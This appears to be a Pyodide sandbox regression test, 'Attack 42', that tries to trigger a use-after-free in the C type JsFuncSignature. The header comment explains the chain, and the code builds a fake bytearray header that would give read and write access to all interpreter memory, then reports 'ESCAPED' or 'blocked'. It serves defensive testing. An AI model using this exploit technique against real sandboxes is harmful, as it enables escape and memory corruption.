# Attack 42: a use-after-free in one of Pyodide's own C types. JsFuncSignature (Pyodide 314.0.7,
# src/core/jsproxy_call.c) is reachable through object.__subclasses__() and could be made; its
# __init__ parses its arguments straight into the object's fields and takes its references only
# once all of them parsed. A call failing at the third argument left `func` holding an object it
# did not own: freed, its memory refilled with a fake bytearray header, and gc.get_referents()
# handed back a bytearray over all of the interpreter's memory (read and write anywhere, then a
# fake JsProxy of an object Pyodide never frees: Map, Object, Function). A reviewer's finding.
# Expected: the type can be neither made nor initialised again, whichever way it is asked.
import gc

le = lambda n: (n & 0xFFFFFFFF).to_bytes(4, "little")
SIZE = 0x7FFF0000
FAKE = (le(0x100000) + le(id(bytearray)) + le(SIZE) + le(SIZE) + le(0) + le(0) + le(0)).ljust(164, b"\0")

found = [c for c in object.__subclasses__() if c.__name__ == "JsFuncSignature"]
if not found:
    print("blocked: no JsFuncSignature to find")
    raise SystemExit
Sig = found[0]


def attempt(label, make):
    try:
        signature = make()
    except Exception as error:
        print(f"blocked: {label}: {type(error).__name__}")
        return
    victim = bytes(150)
    try:
        type(signature).__init__(signature, victim, False, "not an int")
    except TypeError:
        pass
    victim = None
    payload = bytearray(FAKE)
    got = gc.get_referents(signature)
    if got and type(got[0]) is bytearray and len(got[0]) == SIZE:
        print(f"ESCAPED: {label}: a bytearray over the interpreter's memory")
    else:
        print(f"blocked: {label}: made, but no field was left dangling")


attempt("Sig.__new__(Sig)", lambda: Sig.__new__(Sig))
attempt("object.__new__(Sig)", lambda: object.__new__(Sig))
attempt("Sig(...) with bad arguments", lambda: Sig(bytes(150), False, "not an int"))
attempt("Sig()", lambda: Sig())

for name in ("__init__", "__new__"):
    print(f"blocked: Sig.__dict__ has no {name}" if name not in Sig.__dict__ else f"ESCAPED: Sig.__dict__ still has {name}")

# An instance Pyodide made itself, initialised again (if any is in sight at all).
made = [o for o in gc.get_objects() if type(o) is Sig]
print(f"blocked: {len(made)} instances in sight" if not made else f"found {len(made)} instances")
for signature in made[:3]:
    try:
        signature.__init__(bytes(150), False, "not an int")
        print("ESCAPED: an existing signature was initialised again")
    except TypeError as error:
        print(f"blocked: initialising an existing one again: {error}")
try:
    class Sub(Sig):
        pass
    print("ESCAPED: JsFuncSignature can be subclassed")
except TypeError:
    print("blocked: no subclass")
